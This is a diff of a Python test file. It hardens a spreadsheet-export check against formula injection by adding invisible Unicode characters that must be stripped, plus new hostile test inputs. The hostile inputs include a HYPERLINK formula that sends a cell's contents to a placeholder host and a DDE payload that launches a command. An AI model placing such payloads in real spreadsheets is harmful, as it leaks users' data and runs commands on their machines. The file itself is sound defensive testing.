@@ -14,6 +14,7 @@ from bot.lead.exports.xlsx import release_as_xlsx
 from tests.lead.exports.generated import a_generated_release
 
 STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212"
+BLANK = ' "\ufeff\u00a0\u2800\u061c\u180e\ufe0f\u115f\x85\x1c\u202e\u2069\u3164'
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?"&A1,"Roads")',
     "+1+1",
@@ -28,6 +29,7 @@ HOSTILE = (
     "Roads;=1+1",
     'Roads;"=1',
     "Roads\n=1",
+    *(f"{blank}=1" for blank in "\u2800\u061c\u180e\ufe0f\u115f\x85\u202e\u2069\u3164"),
     "'=1",
     "''Roads",
     "=cmd|' /C calc'!A0",
@@ -57,9 +59,7 @@ def test_no_cell_starts_a_formula_whichever_sign_stands_between_cells(text: str)
 
 def starts_formula(cell: str) -> bool:
     """Whether a spreadsheet could calculate this cell."""
-    return cell.lstrip(' "\ufeff\u00a0').startswith(
-        tuple(STARTS.replace("\r", "").replace("\n", ""))
-    )
+    return cell.lstrip(BLANK).startswith(tuple(STARTS.replace("\r", "").replace("\n", "")))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
